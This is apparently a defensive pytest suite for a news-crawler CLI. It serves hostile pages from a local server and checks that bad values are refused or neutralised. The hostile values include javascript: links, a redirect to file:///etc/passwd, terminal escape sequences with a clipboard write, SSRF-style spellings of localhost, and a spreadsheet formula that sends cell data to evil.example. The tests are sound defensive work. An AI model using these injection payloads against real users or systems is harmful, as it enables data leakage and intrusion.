"""Hostile values inside well-formed answers: one bad value costs one page (or one attribute),
never its source. Each test runs `newsflow ingest` against a hostile site on 127.0.0.1 and
checks that the bad value is refused with a recorded reason, that every good page of the same
source is stored, and that the next run still finds the source's new articles."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import yaml
from conftest import FAST_POLITENESS
from hostile_site import COSTLY, HostileSite, InFlight, Request, feed, redirect, response, urlset

from flows.cli import main
from warehouse import store

RSS = "application/rss+xml"
XML = "application/xml"


def article(n: int, head: str = "", title: str | None = None, extra: str = "") -> str:
    """An article page of its own text (no two are duplicates)."""
    title = title or f"Story number {n} from the coast"
    paragraphs = "".join(
        f"<p>Paragraph {i} of story {n}: rescuers evacuated residents of district {n * 7 + i} "
        "after the river broke its banks overnight, officials said on Tuesday morning.</p>"
        for i in range(8)
    )
    return (
        f"<html><head><title>{title}</title>{head}</head><body><article><h1>{title}</h1>"
        f"{paragraphs}{extra}</article></body></html>"
    )


@pytest.fixture
def site():
    with HostileSite() as hostile:
        hostile.route("/robots.txt", response("User-agent: *\n", content_type="text/plain"))
        yield hostile


@pytest.fixture
def warehouse(prefect_api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("NEWSFLOW_DB", str(tmp_path / "w.duckdb"))
    monkeypatch.setenv("NEWSFLOW_POLITENESS", FAST_POLITENESS)
    monkeypatch.setenv("NEWSFLOW_WORKERS", "0")
    monkeypatch.delenv("NEWSFLOW_BASE_URL", raising=False)
    return tmp_path / "w.duckdb"


def configure(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *sources: dict) -> None:
    path = tmp_path / "sources.yaml"
    path.write_text(yaml.safe_dump({"sources": list(sources)}), encoding="utf-8")
    monkeypatch.setenv("NEWSFLOW_SOURCES", str(path))


def rows(query: str) -> list[tuple]:
    with store.connect(read_only=True) as conn:
        return conn.execute(query).fetchall()


def stored() -> set[str]:
    return {url for (url,) in rows("SELECT url FROM articles")}


def serve_feed(site: HostileSite, links: list[str]) -> None:
    site.route("/feed.xml", response(feed(links), content_type=RSS))


def test_bad_urls_cost_their_link_or_attribute_never_the_source(
    site, warehouse, tmp_path, monkeypatch
):
    """Port 99999, a broken IPv6 literal, a bidi override and a javascript: link in a feed,
    and a canonical and hreflang of the same kinds on a good page."""
    broken = '<link rel="canonical" href="http://127.0.0.1:99999/x">' + (
        '<link rel="alternate" hreflang="ru" href="http://[::1/ru">'
        '<link rel="alternate" hreflang="en" href="/a/1">'
    )
    for n in range(4):
        site.route(f"/a/{n}", response(article(n, head=broken if n == 1 else "")))
    bidi = site.url("/a/\u202e1")  # a right-to-left override: XML allows it, a URL must not
    bad = ["http://127.0.0.1:99999/x", "http://[::1/y", "javascript:alert(1)", bidi]
    serve_feed(site, [site.url("/a/0"), *bad, site.url("/a/1"), site.url("/a/2")])
    source = {"id": "bad-urls", "kind": "feed", "base_url": site.base_url, "feed_url": "/feed.xml"}
    configure(tmp_path, monkeypatch, source)

    main(["ingest"])

    assert stored() == {site.url(f"/a/{n}") for n in range(3)}
    refused = rows("SELECT error FROM fetch_log WHERE outcome = 'refused' ORDER BY error")
    assert len(refused) == 4
    problems = " ".join(error for (error,) in refused)
    for problem in ("(port:", "(IPv6 literal:", "(scheme:", "(control character: U+202E)"):
        assert problem in problems
    serve_feed(site, [*bad, site.url("/a/3")])
    main(["ingest"])
    assert site.url("/a/3") in stored()


def test_implausible_dates_are_dropped_and_never_move_the_cursor(
    site, warehouse, tmp_path, monkeypatch
):
    """9999-12-31 in a feed, 2099 in a Google News sitemap, a year-1 date at +14:00 in a page,
    a 4000-digit time in a JSON list: each date is dropped, its page stored."""
    news = "http://www.google.com/schemas/sitemap-news/0.9"

    def entry(path: str, published: str) -> str:
        return (
            f"<url><loc>{site.url(path)}</loc><news:news><news:publication_date>{published}"
            "</news:publication_date></news:news></url>"
        )

    def sitemap(*entries: str) -> bytes:
        body = f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:news="{news}">'
        return response(body + "".join(entries) + "</urlset>", content_type=XML)

    year_one = '<meta property="article:published_time" content="0001-01-01T00:00+14:00">'
    for n in range(8):
        site.route(f"/a/{n}", response(article(n, head=year_one if n == 1 else "")))
    site.route("/news.xml", sitemap(entry("/a/0", "2099-01-01T00:00:00Z"), entry("/a/1", "")))
    item = "<item><title>Nine</title><link>{}</link><pubDate>{}</pubDate></item>"
    rss = "<rss version='2.0'><channel><title>t</title>{}</channel></rss>"
    site.route(
        "/feed.xml",
        response(
            rss.format(item.format(site.url("/a/2"), "9999-12-31T00:00:00Z")), content_type=RSS
        ),
    )
    items = [{"url": site.url("/a/3"), "time": int("9" * 4000)}, {"url": site.url("/a/4")}]
    listing = json.dumps({"items": items})
    site.route("/list.json", response(listing, content_type="application/json"))
    base = {"base_url": site.base_url}
    configure(
        tmp_path,
        monkeypatch,
        {**base, "id": "gnews", "kind": "sitemap", "sitemap_url": "/news.xml"},
        {**base, "id": "cms", "kind": "feed", "feed_url": "/feed.xml"},
        {**base, "id": "api", "kind": "json_api", "api_url": "/list.json", "items_path": "items"}
        | {"fields": {"url": "url", "time": "time"}},
    )

    main(["ingest"])

    assert stored() == {site.url(f"/a/{n}") for n in range(5)}
    latest = datetime.now(UTC) + timedelta(days=2)
    dates = rows("SELECT published_at FROM articles WHERE published_at IS NOT NULL")
    assert all(published <= latest for (published,) in dates)
    cursors = rows("SELECT newest_published FROM source_cursors")
    assert all(cursor <= latest for (cursor,) in cursors)
    site.route(
        "/news.xml",
        sitemap(entry("/a/0", "2099-01-01T00:00:00Z"), entry("/a/5", "2026-01-01T00:00:00Z")),
    )
    main(["ingest"])
    assert site.url("/a/5") in stored()


def test_another_site_cannot_claim_the_sources_article_or_edition(
    site, warehouse, tmp_path, monkeypatch
):
    """A page on another host (another port of 127.0.0.1) names the source's article as its
    canonical and its Russian edition: both stay attributes of the other page."""
    with HostileSite() as other:
        other.route("/robots.txt", response("User-agent: *\n", content_type="text/plain"))
        evil = other.url("/evil")
        claim = (
            f'<link rel="canonical" href="{site.url("/a/0")}">'
            f'<link rel="alternate" hreflang="en" href="{other.url("/evil")}">'
            f'<link rel="alternate" hreflang="ru" href="{site.url("/a/1")}">'
        )
        other.route("/evil", response(article(99, head=claim, title="Attacker text")))
        site.route("/a/0", response(article(0, title="The real story")))
        site.route("/a/1", response(article(1, title="Настоящая история")))
        serve_feed(site, [other.url("/evil"), site.url("/a/0"), site.url("/a/1")])
        source = {
            "id": "claimed",
            "kind": "feed",
            "base_url": site.base_url,
            "feed_url": "/feed.xml",
            "allow_hosts": ["127.0.0.1"],
        }
        configure(tmp_path, monkeypatch, source)
        main(["ingest"])

    titles = dict(rows("SELECT url, title FROM articles"))
    assert titles[site.url("/a/0")] == "The real story"
    assert titles[evil] == "Attacker text"
    [(declared,)] = rows(f"SELECT declared_canonical FROM articles WHERE url = '{evil}'")
    assert declared == site.url("/a/0")
    assert rows("SELECT count(*) FROM article_editions") == [(0,)]


def test_a_listed_amp_url_is_fetched_as_listed(site, warehouse, tmp_path, monkeypatch):
    """Folding /amp/ is a dedup key: the page requested is the one listed."""
    site.route("/news/1/amp/", response(article(1)))
    serve_feed(site, [site.url("/news/1/amp/")])
    source = {"id": "amp", "kind": "feed", "base_url": site.base_url, "feed_url": "/feed.xml"}
    configure(tmp_path, monkeypatch, source)
    main(["ingest"])
    assert "/news/1/amp/" in site.paths() and "/news/1/" not in site.paths()
    assert rows("SELECT count(*) FROM articles") == [(1,)]


def test_a_page_over_the_processing_budget_is_too_costly_and_the_rest_are_stored(
    site, warehouse, tmp_path, monkeypatch
):
    """200,000 short paragraphs in 4.4 MB (under max_bytes): refused before parsing."""
    costly = "<html><body>" + "<p>x</p>" * 200_000 + "</body></html>"
    site.route("/a/costly", response(costly))
    for n in range(3):
        site.route(f"/a/{n}", response(article(n)))
    serve_feed(site, [site.url("/a/costly"), *(site.url(f"/a/{n}") for n in range(3))])
    source = {"id": "costly", "kind": "feed", "base_url": site.base_url, "feed_url": "/feed.xml"}
    configure(tmp_path, monkeypatch, source)
    started = time.monotonic()
    main(["ingest"])
    assert time.monotonic() - started < 60
    assert stored() == {site.url(f"/a/{n}") for n in range(3)}
    [(outcome, error)] = rows("SELECT outcome, error FROM fetch_log WHERE url LIKE '%costly'")
    assert outcome == "too_costly" and "max_page_elements" in error


def test_one_server_is_one_server_however_its_host_is_spelled(
    site, warehouse, tmp_path, monkeypatch
):
    """Ten spellings of 127.0.0.1 with max_per_host 1: never two connections at once."""
    flight = InFlight()

    port = site.port
    spellings = [
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.0.1",
        "0x7f.1",
        "localhost",
        "localhost.",
        "127.000.000.001",
    ]
    for n in range(len(spellings)):
        site.route(f"/a/{n}", flight.slow(site, response(article(n))))
    serve_feed(site, [f"http://{host}:{port}/a/{n}" for n, host in enumerate(spellings)])
    source = {
        "id": "spelled",
        "kind": "feed",
        "base_url": site.base_url,
        "feed_url": "/feed.xml",
        "allow_hosts": ["127.0.0.0/8", "localhost"],
        "politeness": {"max_per_host": 1, "delay_seconds": 0},
    }
    configure(tmp_path, monkeypatch, source)
    monkeypatch.setenv("NEWSFLOW_POLITENESS", "timeout_seconds=5,retries=0")
    main(["ingest"])
    assert flight.peak == 1
    assert len(stored()) >= 8  # localhost may resolve to ::1 first, where nothing listens


ESCAPES = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]8;;http://evil.example/\x07"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'


def test_what_the_web_wrote_is_printed_exported_and_stored_harmless(
    site, warehouse, tmp_path, monkeypatch, capsys
):
    """Escapes, bidi overrides and a formula in a title and author; a U+0008 and an &#27; in
    paragraphs; a markdown link in an HTTP reason phrase."""
    author = f'<meta name="author" content="Ann\u202eEvil {ESCAPES}">'
    stray = "<p>A stray \x08 backspace and an &#27; escape sit in this paragraph of the story.</p>"
    title = f"{FORMULA} Flood\u202e{ESCAPES.replace(chr(7), '')}"
    site.route("/a/0", response(article(0, head=author, title=title, extra=stray)))
    site.route("/a/1", response(article(1, extra=stray)))
    reason = "[click here](javascript:alert(1))"
    site.route("/a/2", response("no", f"503 {reason}"))
    serve_feed(site, [site.url(f"/a/{n}") for n in range(3)])
    source = {"id": "escapes", "kind": "feed", "base_url": site.base_url, "feed_url": "/feed.xml"}
    configure(tmp_path, monkeypatch, source)

    main(["ingest"])
    assert stored() == {site.url("/a/0"), site.url("/a/1")}  # not no_content
    for text, stored_title, stored_author in rows("SELECT text, title, author FROM articles"):
        assert "backspace" in text and not set(text) & {"\x08", "\x1b"}
        assert not set(stored_title + (stored_author or "")) & {"\x1b", "\x07", "\u202e"}
    capsys.readouterr()

    main(["sql", "SELECT title FROM articles WHERE title LIKE '%HYPERLINK%'", "--format", "csv"])
    [header, [cell]] = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert cell.startswith("'=HYPERLINK(")
    main(["sql", f"SELECT '{reason}' AS r", "--format", "markdown"])
    assert "\\[click here\\]\\(javascript" in capsys.readouterr().out
    for command in (
        ["show", site.url("/a/0")],
        ["search", "Flood"],
        ["frontier", "--failures"],
        ["sql", "SELECT title, author FROM articles"],
    ):
        main(command)
        out = capsys.readouterr()
        assert out.out.strip(), command
        assert not set(out.out + out.err) & {"\x1b", "\x07", "\x9b", "\u202e"}, command
    [(run_id,)] = rows("SELECT DISTINCT run_id FROM fetch_log")
    assert "[click here](" not in _summary_artifact(run_id)


def _summary_artifact(run_id: str) -> str:
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import (
        ArtifactFilter,
        ArtifactFilterFlowRunId,
        ArtifactFilterKey,
    )

    with get_client(sync_client=True) as client:
        [artifact] = client.read_artifacts(
            artifact_filter=ArtifactFilter(
                flow_run_id=ArtifactFilterFlowRunId(any_=[run_id]),
                key=ArtifactFilterKey(any_=["ingest-summary"]),
            )
        )
    return artifact.data


def test_relative_links_in_listings_resolve_against_the_listing(
    site, warehouse, tmp_path, monkeypatch
):
    """An RSS <link> and a permalink <guid> as paths, an Atom feed under xml:base, a sitemap
    index whose sub-sitemap and pages are relative, a JSON list of paths: each resolves against
    its listing's own address (or xml:base) and passes the boundary; a relative link that
    resolves to no web URL is refused alone, and a guid that is an id is no link."""
    for n in range(9):
        site.route(f"/news/{n}", response(article(n)))
    rss = (
        "<rss version='2.0'><channel><title>t</title>"
        "<item><title>Path</title><link>/news/0</link></item>"
        "<item><title>Sibling</title><link>1</link></item>"
        "<item><title>Guid</title><guid>/news/2</guid></item>"
        "<item><title>Id</title><guid>12345</guid></item>"
        "<item><title>Bad port</title><link>//127.0.0.1:99999/news/9</link></item>"
        "</channel></rss>"
    )
    site.route("/news/feed.xml", response(rss, content_type=RSS))
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="/news/"><title>t</title>'
        '<entry><title>Three</title><link href="3"/></entry>'
        '<entry xml:base="/elsewhere/"><title>Four</title><link href="../news/4"/></entry>'
        "</feed>"
    )
    site.route("/atom", response(atom, content_type="application/atom+xml"))
    index = '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
    index += "<sitemap><loc>pages.xml</loc></sitemap></sitemapindex>"
    site.route("/maps/index.xml", response(index, content_type=XML))
    site.route("/maps/pages.xml", response(urlset(["/news/5", "../news/6"]), content_type=XML))
    listing = json.dumps({"items": [{"url": "/news/7"}, {"url": "../../news/8"}]})
    site.route("/api/v1/list", response(listing, content_type="application/json"))
    base = {"base_url": site.base_url}
    configure(
        tmp_path,
        monkeypatch,
        {**base, "id": "rss", "kind": "feed", "feed_url": "/news/feed.xml"},
        {**base, "id": "atom", "kind": "feed", "feed_url": "/atom"},
        {**base, "id": "maps", "kind": "sitemap", "sitemap_url": "/maps/index.xml"},
        {**base, "id": "api", "kind": "json_api", "api_url": "/api/v1/list", "items_path": "items"}
        | {"fields": {"url": "url"}},
    )

    main(["ingest"])

    assert stored() == {site.url(f"/news/{n}") for n in range(9)}
    [(error,)] = rows("SELECT error FROM fetch_log WHERE outcome = 'refused'")
    assert "(port:" in error
    assert "/12345" not in " ".join(site.paths())


def test_a_costly_page_processed_in_process_stops_at_its_cpu_budget(
    site, warehouse, tmp_path, monkeypatch
):
    """No page workers (NEWSFLOW_WORKERS=0): a page under max_page_elements that needs about
    15 s of CPU ends too_costly at its 3 s budget (room for a cold process's first page on a busy
    machine), and the others are stored."""
    site.route("/a/costly", response(COSTLY))
    for n in range(3):
        site.route(f"/a/{n}", response(article(n)))
    serve_feed(site, [site.url("/a/costly"), *(site.url(f"/a/{n}") for n in range(3))])
    source = {"id": "cpu", "kind": "feed", "base_url": site.base_url, "feed_url": "/feed.xml"}
    configure(tmp_path, monkeypatch, source | {"limits": {"page_cpu_seconds": 3}})
    started = time.monotonic()
    main(["ingest"])
    assert time.monotonic() - started < 60
    assert stored() == {site.url(f"/a/{n}") for n in range(3)}
    [(outcome, error)] = rows("SELECT outcome, error FROM fetch_log WHERE url LIKE '%costly'")
    assert outcome == "too_costly" and "page_cpu_seconds" in error


def _endless_chunks(site: HostileSite):
    """A chunked answer that never ends, sent as fast as it is read."""

    def handler(request: Request) -> Iterator[bytes]:
        yield b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n"
        chunk = b"<p>" + b"x" * 65_000 + b"</p>"
        while site.wait(0):
            yield f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"

    return handler


def _dripped_chunks(site: HostileSite):
    """A chunked answer that sends one byte every half second, for ever: each read is in
    time, the whole never is."""

    def handler(request: Request) -> Iterator[bytes]:
        yield b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n"
        while site.wait(0.5):
            yield b"1\r\nx\r\n"

    return handler


def test_hostile_answers_cost_their_page_and_the_next_run_finds_new_articles(
    site, warehouse, tmp_path, monkeypatch
):
    """Redirects to data:, javascript:, file: and ftp: URLs and round a loop of spellings of
    one server; a NUL in a Location header; a chunked answer without end and one that drips;
    brotli nobody asked for; a UTF-16 page without a byte order mark; a meta refresh to
    another host; and a feed of 100,000 relative items: each a recorded outcome of its own,
    the good pages stored, nothing asked of the other host, and a later article found."""
    port = site.port
    schemes = {
        "data": "data:text/html,<p>hi</p>",
        "javascript": "javascript:alert(1)",
        "file": "file:///etc/passwd",
        "ftp": f"ftp://127.0.0.1:{port}/x",
    }
    for name, location in schemes.items():
        site.route(f"/r/{name}", redirect(location))
    site.route("/r/loop", redirect(f"http://127.1:{port}/r/loop2"))
    site.route("/r/loop2", redirect(f"http://0x7f000001:{port}/r/loop"))
    site.route("/r/nul", b"HTTP/1.1 302 Found\r\nLocation: /a/0\x00x\r\nContent-Length: 0\r\n\r\n")
    site.route("/endless", _endless_chunks(site))
    site.route("/drip", _dripped_chunks(site))
    site.route("/br", response(b"\x1b" * 1000, headers={"Content-Encoding": "br"}))
    site.route("/wide", response(article(1).encode("utf-16-le"), content_type="text/html"))
    refresh = '<meta http-equiv="refresh" content="0; url=http://127.0.0.2:{port}/elsewhere">'
    site.route("/refresh", response(article(2, head=refresh.format(port=port))))
    site.route("/a/0", response(article(0)))
    hostile = [*(f"/r/{name}" for name in schemes), "/r/loop", "/r/nul", "/endless", "/drip"]
    serve_feed(site, [site.url(path) for path in [*hostile, "/br", "/wide", "/refresh", "/a/0"]])
    big = "".join(f"<item><link>/b/{n}</link></item>" for n in range(100_000))
    site.route("/big.xml", response(f"<rss><channel>{big}</channel></rss>", content_type=RSS))
    for n in range(3):
        site.route(f"/b/{n}", response(article(10 + n)))
    base = {"base_url": site.base_url, "kind": "feed"}
    configure(
        tmp_path,
        monkeypatch,
        {**base, "id": "hostile", "feed_url": "/feed.xml"}
        | {"politeness": {"deadline_seconds": 3, "retries": 0}},
        {**base, "id": "big", "feed_url": "/big.xml", "limits": {"max_urls_per_run": 3}},
    )
    with HostileSite(host="127.0.0.2") as other:
        started = time.monotonic()
        main(["ingest"])
        elapsed = time.monotonic() - started
    assert other.connections == 0
    good = {site.url(p) for p in ("/a/0", "/wide", "/refresh", "/b/0", "/b/1", "/b/2")}
    assert stored() == good
    [(title,)] = rows(f"SELECT title FROM articles WHERE url = '{site.url('/wide')}'")
    assert title == "Story number 1 from the coast"
    outcomes = dict(rows("SELECT url, outcome || ': ' || coalesce(error, '') FROM fetch_log"))
    for name in schemes:
        refusal = f"refused: redirect to bad URL (scheme: '{name}')"
        assert outcomes[site.url(f"/r/{name}")].startswith(refusal)
    assert outcomes[site.url("/r/loop")].startswith("redirect_loop")
    assert outcomes[site.url("/r/nul")].startswith("network_error")
    assert outcomes[site.url("/endless")].startswith("too_large")
    assert outcomes[site.url("/drip")].startswith("timeout")
    assert outcomes[site.url("/br")].startswith("undecodable")
    assert "100000 links listed, the first 3 taken" in outcomes[site.url("/b/3")]
    assert elapsed < 90
    site.route("/a/5", response(article(5)))
    serve_feed(site, [site.url(path) for path in [*hostile, "/a/5"]])
    main(["ingest", "--source", "hostile"])
    assert site.url("/a/5") in stored()
